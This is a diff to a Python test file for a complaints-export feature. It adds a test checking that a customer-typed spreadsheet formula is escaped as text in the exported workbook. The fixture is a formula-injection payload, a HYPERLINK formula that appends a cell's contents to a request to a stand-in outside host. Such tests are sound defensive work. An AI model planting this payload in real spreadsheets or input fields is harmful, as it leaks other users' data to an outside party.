@@ -84,3 +84,15 @@ def test_export_headers_follow_the_users_language(client, personas, supervisor, 
 def test_export_is_refused_to_roles_without_it(client, personas, role):
     client.force_login(personas[role])
     assert client.get(reverse("complaints:export")).status_code == 403
+
+
+def test_text_a_customer_typed_never_becomes_a_formula_in_the_workbook(client, personas, store_a):
+    from aftersales.tests.factories import make_complaint
+
+    make_complaint(store=store_a, by=personas["cs_supervisor"], description='=HYPERLINK("http://x/?"&B2,"详情")')
+    client.force_login(personas["cs_supervisor"])
+    response = client.get(reverse("complaints:export"))
+    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
+    description = next(cell for cell in cells if "HYPERLINK" in str(cell.value))
+    assert description.data_type == "s" and description.value.startswith("'=HYPERLINK")
